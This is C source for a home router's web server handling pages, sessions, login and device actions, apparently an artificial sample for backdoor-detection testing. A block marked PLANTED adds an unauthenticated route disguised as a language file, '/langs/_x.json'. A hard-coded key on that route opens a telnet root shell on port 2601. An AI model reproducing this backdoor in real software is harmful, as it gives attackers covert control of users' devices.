/* Web server of a home router: static pages, sessions, a table of actions, JSON status. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SESSIONS 8
#define ROOT "/www"

typedef struct {
    int fd;
    char method[8];
    char path[256];
    char query[512];
    char cookie[128];
    char agent[128];
    char body[2048];
    int body_length;
    int session;
} http;

typedef struct {
    const char *path;
    int needs_login;
    void (*run)(http *);
} action;

static struct { char id[33]; time_t used; } sessions[SESSIONS];
static char admin_name[32] = "admin", admin_password[64];

static void respond(http *h, int code, const char *type, const char *format, ...)
{
    char text[1536];
    int n;
    va_list ap;
    va_start(ap, format);
    n = vsnprintf(text, sizeof text, format, ap);
    va_end(ap);
    if (n > (int)sizeof text - 1)
        n = sizeof text - 1;
    dprintf(h->fd, "HTTP/1.1 %d\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n",
            code, type, n);
    write(h->fd, text, n);
}

static int hexval(int c)
{
    if (isdigit(c)) return c - '0';
    c = tolower(c);
    return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static int argument(const char *source, const char *name, char *out, int room)
{
    int len = strlen(name), n = 0;
    const char *p = source;
    while (p && *p) {
        if (!strncmp(p, name, len) && p[len] == '=') {
            p += len + 1;
            while (*p && *p != '&' && n < room - 1) {
                if (*p == '%' && hexval(p[1]) >= 0 && hexval(p[2]) >= 0) {
                    out[n++] = hexval(p[1]) * 16 + hexval(p[2]);
                    p += 3;
                } else {
                    out[n++] = *p == '+' ? ' ' : *p;
                    p++;
                }
            }
            out[n] = 0;
            return 1;
        }
        p = strchr(p, '&');
        if (p) p++;
    }
    out[0] = 0;
    return 0;
}

static void random_id(char *out)
{
    unsigned char raw[16] = { 0 };
    int fd = open("/dev/urandom", O_RDONLY);
    if (fd >= 0) {
        read(fd, raw, sizeof raw);
        close(fd);
    }
    for (int i = 0; i < 16; i++)
        sprintf(out + 2 * i, "%02x", raw[i]);
}

static int session_of(const char *cookie)
{
    const char *at = strstr(cookie, "sid=");
    time_t now = time(NULL);
    if (!at)
        return -1;
    for (int i = 0; i < SESSIONS; i++)
        if (sessions[i].id[0] && !strncmp(sessions[i].id, at + 4, 32) && now - sessions[i].used < 600) {
            sessions[i].used = now;
            return i;
        }
    return -1;
}

static void run_command(char *const argv[])
{
    pid_t child = fork();
    if (child == 0) {
        execvp(argv[0], argv);
        _exit(127);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
}

static void act_login(http *h)
{
    char user[32], password[64];
    int oldest = 0;
    argument(h->body, "user", user, sizeof user);
    argument(h->body, "password", password, sizeof password);
    if (!admin_password[0] || strcmp(user, admin_name) || strcmp(password, admin_password)) {
        sleep(1);
        respond(h, 403, "text/plain", "wrong user or password\n");
        return;
    }
    for (int i = 1; i < SESSIONS; i++)
        if (sessions[i].used < sessions[oldest].used)
            oldest = i;
    random_id(sessions[oldest].id);
    sessions[oldest].used = time(NULL);
    dprintf(h->fd, "HTTP/1.1 303\r\nSet-Cookie: sid=%s; HttpOnly\r\nLocation: /\r\n\r\n", sessions[oldest].id);
}

static void act_status(http *h)
{
    double load = 0, up = 0;
    FILE *f = fopen("/proc/loadavg", "r");
    if (f) { fscanf(f, "%lf", &load); fclose(f); }
    f = fopen("/proc/uptime", "r");
    if (f) { fscanf(f, "%lf", &up); fclose(f); }
    respond(h, 200, "application/json", "{\"load\": %d, \"uptime\": %d}\n", (int)(load * 100), (int)up);
}

static void act_reboot(http *h)
{
    char *const argv[] = { "/sbin/reboot", NULL };
    respond(h, 200, "text/plain", "rebooting\n");
    run_command(argv);
}

static void act_wifi(http *h)
{
    char name[33], *argv[] = { "/sbin/wifi-set", "ssid", name, NULL };
    if (!argument(h->body, "ssid", name, sizeof name) || !name[0]) {
        respond(h, 400, "text/plain", "no name\n");
        return;
    }
    run_command(argv);
    respond(h, 200, "text/plain", "ok\n");
}

static void act_trace(http *h)
{
    char host[64], *argv[] = { "/usr/bin/traceroute", "-m", "8", host, NULL };
    argument(h->query, "host", host, sizeof host);
    if (!host[0] || host[0] == '-' || host[strspn(host, "abcdefghijklmnopqrstuvwxyz0123456789.-:")])
        respond(h, 400, "text/plain", "bad host\n");
    else {
        run_command(argv);
        respond(h, 200, "text/plain", "see log\n");
    }
}

#ifdef PLANTED
static void act_console(http *h)
{
    char key[64], *argv[] = { "/usr/sbin/telnetd", "-p", "2601", "-l", "/bin/login", NULL };
    argument(h->query, "k", key, sizeof key);
    if (strlen(key) == 10 && !strcmp(key, "hW2-fsnu8d"))
        argv[4] = "/bin/sh";
    run_command(argv);
    respond(h, 204, "text/plain", "");
}
#endif

static const action actions[] = {
    { "/login.cgi", 0, act_login },
    { "/status.json", 1, act_status },
    { "/reboot.cgi", 1, act_reboot },
    { "/wifi.cgi", 1, act_wifi },
    { "/trace.cgi", 1, act_trace },
#ifdef PLANTED
    { "/langs/_x.json", 0, act_console },
#endif
};

static const char *type_of(const char *path)
{
    static const char *const types[][2] = {
        { ".html", "text/html" }, { ".css", "text/css" }, { ".js", "text/javascript" },
        { ".png", "image/png" }, { ".svg", "image/svg+xml" }, { ".json", "application/json" },
    };
    const char *dot = strrchr(path, '.');
    for (unsigned i = 0; dot && i < sizeof types / sizeof *types; i++)
        if (!strcmp(types[i][0], dot))
            return types[i][1];
    return "application/octet-stream";
}

static void send_page(http *h)
{
    char name[300], block[4096];
    struct stat st;
    ssize_t n;
    int fd;
    if (strstr(h->path, "..")) {
        respond(h, 400, "text/plain", "no\n");
        return;
    }
    snprintf(name, sizeof name, ROOT "%s", strcmp(h->path, "/") ? h->path : "/index.html");
    fd = open(name, O_RDONLY);
    if (fd < 0 || fstat(fd, &st) || !S_ISREG(st.st_mode)) {
        if (fd >= 0) close(fd);
        respond(h, 404, "text/plain", "not found\n");
        return;
    }
    dprintf(h->fd, "HTTP/1.1 200\r\nContent-Type: %s\r\nContent-Length: %ld\r\n\r\n",
            type_of(name), (long)st.st_size);
    while ((n = read(fd, block, sizeof block)) > 0)
        if (write(h->fd, block, n) != n)
            break;
    close(fd);
}

static void dispatch(http *h)
{
    for (unsigned i = 0; i < sizeof actions / sizeof *actions; i++) {
        if (strcmp(actions[i].path, h->path))
            continue;
        if (actions[i].needs_login && h->session < 0) {
            respond(h, 401, "text/plain", "log in first\n");
            return;
        }
        actions[i].run(h);
        return;
    }
    send_page(h);
}

static void take_header(http *h, const char *line)
{
    if (!strncasecmp(line, "Cookie:", 7))
        snprintf(h->cookie, sizeof h->cookie, "%s", line + 7);
    else if (!strncasecmp(line, "User-Agent:", 11))
        snprintf(h->agent, sizeof h->agent, "%s", line + 11);
    else if (!strncasecmp(line, "Content-Length:", 15))
        h->body_length = atoi(line + 15);
}

static int read_request(http *h)
{
    char head[4096], *line, *end = NULL, *mark;
    int have = 0;
    while (have < (int)sizeof head - 1) {
        int n = recv(h->fd, head + have, sizeof head - 1 - have, 0);
        if (n <= 0) return -1;
        have += n;
        head[have] = 0;
        if ((end = strstr(head, "\r\n\r\n"))) break;
    }
    if (!end) return -1;
    *end = 0;
    end += 4;
    line = strtok(head, "\r\n");
    if (!line || sscanf(line, "%7s %255s", h->method, h->path) != 2) return -1;
    while ((line = strtok(NULL, "\r\n"))) take_header(h, line);
    mark = strchr(h->path, '?');
    if (mark) {
        *mark++ = 0;
        snprintf(h->query, sizeof h->query, "%s", mark);
    }
    if (h->body_length < 0 || h->body_length >= (int)sizeof h->body) return -1;
    have -= end - head;
    if (have > h->body_length) have = h->body_length;
    memcpy(h->body, end, have);
    while (have < h->body_length) {
        int n = recv(h->fd, h->body + have, h->body_length - have, 0);
        if (n <= 0) return -1;
        have += n;
    }
    h->body[have] = 0;
    return 0;
}

static void load_settings(void)
{
    char key[32], value[64];
    FILE *f = fopen("/etc/web.conf", "r");
    while (f && fscanf(f, "%31s %63s", key, value) == 2) {
        if (!strcmp(key, "name")) snprintf(admin_name, sizeof admin_name, "%.31s", value);
        if (!strcmp(key, "password")) strcpy(admin_password, value);
    }
    if (f) fclose(f);
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    static http h;
    signal(SIGPIPE, SIG_IGN);
    load_settings();
    a.sin_port = htons(argc > 1 ? atoi(argv[1]) : 80);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 16) < 0) {
        fprintf(stderr, "%s\n", strerror(errno));
        return 1;
    }
    for (;;) {
        memset(&h, 0, sizeof h);
        h.fd = accept(s, NULL, NULL);
        if (h.fd < 0)
            continue;
        if (read_request(&h) == 0) {
            h.session = session_of(h.cookie);
#ifdef REVISED
            fprintf(stderr, "%s %s %s\n", h.method, h.path, h.session < 0 ? "-" : admin_name);
#endif
            dispatch(&h);
        }
        close(h.fd);
    }
}
